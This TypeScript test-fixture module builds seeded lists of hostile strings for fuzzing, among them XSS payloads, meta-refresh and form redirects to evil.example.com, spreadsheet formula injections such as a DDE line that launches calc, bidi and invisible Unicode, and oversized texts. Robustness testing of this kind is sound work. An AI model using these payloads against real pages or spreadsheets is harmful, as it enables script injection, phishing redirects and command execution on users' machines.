/** Texts and ids that try to be something else: markup, scripts, formulas, marks of direction, what can't be seen, giants. */
import { type Draw, hostileText, oneOf } from './hostile-text.js';
import { seeded } from './seeded.js';

const MARKUP = [
  '<img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '"><script>alert(document.domain)</script>',
  '</script><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<style>*{display:none!important}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '<base href="//evil.example.com/"><meta http-equiv="refresh" content="0;url=//evil.example.com">',
  '<form action="//evil.example.com"><button id="app">Approve</button></form>',
  '<b><i><u>'.repeat(200),
  '<!-- ',
  ']]>',
  '&lt;script&gt;alert(1)&#60;/script&#62;',
  "javascript:alert(1)//'\"`${alert(1)}{{constructor.constructor('alert(1)')()}}",
  '[x](javascript:alert(1)) | **a** `b`',
];
const FORMULAS = [
  '=HYPERLINK("http://evil.example.com","click")',
  "=cmd|'/C calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  ' =1+1',
  "'=1+1",
  '＝1+1',
  '_x003D_1+1',
  '_x0000_',
];
const UNSEEN = [
  '\u202Eright to left\u202C',
  '\u2067\u2066isolates',
  '\u061Cعربي עברית',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFF',
  '\u200B'.repeat(300),
  '\u0000',
  '\u001B]0;title\u0007\u001B[2J',
  '\u0085\u2028\u2029',
  '\uFFFE\uFFFF',
  '\uD83D',
  '\uDE00',
  '\u{E0041}\u{E0042}',
];
const SEEN = [
  '👩‍👩‍👧‍👦👍🏽🏳️‍🌈🇺🇦',
  `Z${'\u0301\u0323\u0489'.repeat(60)}`,
  '漢字仮名交じり文',
  'ﷺ'.repeat(20),
  'İıſﬀß',
  '𝕏'.repeat(30),
];
const KINDS = [MARKUP, FORMULAS, UNSEEN, SEEN] as const;
const GIANT = 60_000;
/** One of so many texts is one. */
const GIANTS = 500;

/** As many texts as are asked for, no two alike. */
export function hostileTexts(seed: number, count: number): string[] {
  const draw = seeded(seed);
  return Array.from({ length: count }, (_, index) => {
    const text = Array.from({ length: Math.ceil(draw() * 4) }, () => piece(draw)).join(
      oneOf(draw, [' ', '', '\n', '\r\n']),
    );
    const end = ` ${index}`;
    return index % GIANTS === 7 ? text.repeat(Math.ceil(GIANT / (text.length + 1)) + 1) + end : text + end;
  });
}

/** Of the same kinds, each with its index in it. */
export function hostileIds(seed: number, count: number): string[] {
  const draw = seeded(seed);
  return Array.from({ length: count }, (_, index) => `${piece(draw).slice(0, 60)}${index}`);
}

function piece(draw: Draw): string {
  return draw() < 0.2 ? hostileText(draw, 6) : oneOf<string>(draw, oneOf<readonly string[]>(draw, KINDS));
}
